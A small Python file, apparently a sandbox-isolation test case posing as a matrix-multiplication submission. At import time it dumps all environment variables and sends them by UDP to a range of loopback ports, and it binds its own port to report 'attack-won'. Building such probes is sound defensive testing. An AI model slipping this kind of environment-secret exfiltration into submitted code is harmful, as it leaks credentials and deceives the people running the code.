"""Sends what it can find to a listener on the host by UDP, and opens a port of its own.

covers = ["sockets (TCP, UDP, Unix path sockets, abstract, vsock)"]
task = "matmul"
verdict = "ACCEPTED"
"""

import os
import socket

SECRET = repr(dict(os.environ)).encode()
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        print("attack-won: has a port of its own")
except OSError:
    pass
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "127.1.2.3")):
    for port in range(47100, 47132):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as one:
                one.settimeout(0.05)
                one.connect((address, port))
                one.send(SECRET)
        except OSError:
            pass


def matmul(a, b):
    return a @ b
